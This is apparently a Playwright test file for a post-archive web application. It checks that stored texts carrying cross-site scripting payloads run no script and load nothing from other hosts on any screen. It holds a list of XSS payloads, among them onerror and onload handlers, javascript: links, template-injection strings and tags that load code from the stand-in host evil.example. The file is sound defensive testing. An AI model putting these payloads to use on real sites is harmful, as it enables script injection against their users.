import type { Page } from '@playwright/test'
import { archivePosts } from './archived.ts'
import { openSearch } from './ferry.ts'
import { expect, type Litopys, test } from './harness.ts'

const image = '<img src=x onerror=alert(1)>'
/** Markup and templates that have run scripts in other applications. */
const markup = [
  image,
  '"><svg onload=alert(1)>',
  '<script src="https://evil.example/x.js"></script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[link](javascript:alert(1)) javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}} #{alert(1)}",
  '<a href="javascript:alert(1)" style="background:url(https://evil.example/y)">link</a>',
].join(' ')

test('texts with markup run no script and load nothing on any screen', async ({ page, litopys }) => {
  const faults = watchFaults(page, new URL(litopys.address).origin)
  const ids = await storeHostileTexts(litopys)
  await openSearch(page, litopys, litopys.administrator, { q: 'розмітка' })
  await expect(page.getByText(image).first()).toBeVisible()
  const places = [
    ...['?q=розмітка&view=table', `?q=${encodeURIComponent(markup)}`, `posts/${ids.post}`],
    ...['quotes', `quotes/${ids.quote}`, 'tags', 'channels', `channels/${ids.channel}`],
    ...['requests', `requests?request=${ids.request}`, 'registry', 'registry?tab=audit-log'],
    ...[`analyses/${ids.analysis}`, `analyses/${ids.analysis}?edit=1`],
  ]
  for (const place of places) {
    await page.goto(new URL(place, litopys.address).href)
    await expect(page.getByRole('heading', { level: 1 }).or(page.getByRole('dialog')).first()).toBeAttached()
    await expect(page.locator('[class*=waiting]')).toHaveCount(0)
    await expect(page.locator('main script, main iframe, main [onerror], main [onload]')).toHaveCount(0)
    await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0)
  }
  expect(faults).toEqual([])

  // A page that did use markup would have been noticed.
  const use = (text: string) => document.body.insertAdjacentHTML('beforeend', text)
  await expect(page.evaluate(use, image)).rejects.toThrow('TrustedHTML')
  await expect.poll(() => faults.length).toBeGreaterThan(0)
})

/** Dialogs, violations of the content security policy, and requests to other hosts, as they happen. */
function watchFaults(page: Page, ownOrigin: string): string[] {
  const faults: string[] = []
  page.on('dialog', async (dialog) => {
    faults.push(`a dialog: ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('console', (line) => {
    if (/Content Security Policy|Trusted ?Type|TrustedHTML/.test(line.text())) faults.push(line.text())
  })
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== ownOrigin) faults.push(request.url())
  })
  return faults
}

/** Archives a post, and stores objects of the administrator, all with markup in every text. */
async function storeHostileTexts(litopys: Litopys) {
  const post = { channelId: '1500000066', messageId: 1, date: '2026-02-01T06:00:00Z', views: 1 }
  const texts = { text: `розмітка ${markup}`, channel: `Розмітка ${image}`, author: `Автор ${image}` }
  await archivePosts(litopys, [{ ...post, ...texts }])
  const headers = { 'content-type': 'application/json', authorization: '' }
  const send = async (path: string, body?: object) => {
    const method = body ? 'POST' : 'GET'
    const url = new URL(`/api/v1${path}`, litopys.address)
    const answer = await fetch(url, { method, headers, ...(body && { body: JSON.stringify(body) }) })
    expect([path, answer.status]).toEqual([path, 200])
    return (await answer.json()).data
  }
  const { accessToken } = await send('/auth/login', litopys.administrator)
  headers.authorization = `Bearer ${accessToken}`
  const postId = '1500000066_1'
  const quote = await send('/quotes', { postId, tags: [image], comment: markup })
  const request = await send('/requests', { title: image, search: 'розмітка' })
  const blocks = [
    { type: 'heading', id: 'h', level: 2, text: image },
    { type: 'list', id: 'l', ordered: false, items: [markup] },
    { type: 'post', id: 'p', postId },
  ]
  const document = { blocks, conclusions: markup }
  const analysis = await send('/analyses', { itemId: 'b', itemTitle: image, theme: image, document })
  const channels: { _id: string; channelId: string }[] = await send('/channels?itemsPerPage=100')
  const channel = channels.find(({ channelId }) => channelId === post.channelId)
  return {
    post: postId,
    quote: quote._id,
    request: request._id,
    analysis: analysis._id,
    channel: channel?._id,
  }
}
